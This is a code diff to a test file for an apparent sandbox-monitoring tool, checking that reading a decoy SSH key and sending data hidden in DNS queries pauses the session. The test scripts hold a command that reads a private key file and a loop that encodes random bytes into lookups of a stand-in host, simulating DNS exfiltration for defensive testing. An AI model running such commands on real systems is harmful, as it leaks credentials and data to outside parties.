@@ -136,11 +136,13 @@ test('opening a decoy file pauses the session, and so do DNS queries that carry 
   timeout,
 }, async () => {
   const coid = openCoid({ socketPath: coidSocketPath(bed.env) });
-  // By then it monitors the session.
-  await untilAudited(coid, guarded, ({ title }) => title === 'Privileged program created');
   let pauses = 0;
   for (const [title, script] of [
-    ['Bait file accessed', 'cat ~/.ssh/id_ed25519_deploy > /dev/null'],
+    // Decoys are written and watched one after the other: the last one means that the key is watched.
+    [
+      'Bait file accessed',
+      'until [ -e ~/.config/passwords.txt ]; do sleep 0.05; done; cat ~/.ssh/id_ed25519_deploy > /dev/null',
+    ],
     [
       'Data in DNS queries',
       'for i in 1 2 3 4 5 6; do getent hosts $i$(head -c 25 /dev/urandom | od -An -tx1 | tr -d " \\n").t.example.invalid; done; true',
@@ -149,10 +151,7 @@ test('opening a decoy file pauses the session, and so do DNS queries that carry 
     pauses += 1;
     const paused = lifecycle.until('instance-paused', guarded, pauses);
     void sh(guarded, `export HOME=/home/code; ${script}`, 1000).catch(() => undefined);
-    await paused.catch(async (cause: unknown) => {
-      const audit = JSON.stringify(await coid.audit(guarded, { after: 0, waitMs: 0 }));
-      throw new Error(`not paused after ${title}; its audit log: ${audit}`, { cause });
-    });
+    await paused;
     const found = await untilAudited(coid, guarded, (record) => record.title === title);
     assert.equal(found.action, 'paused');
     const result = await bed.coi(['list']);
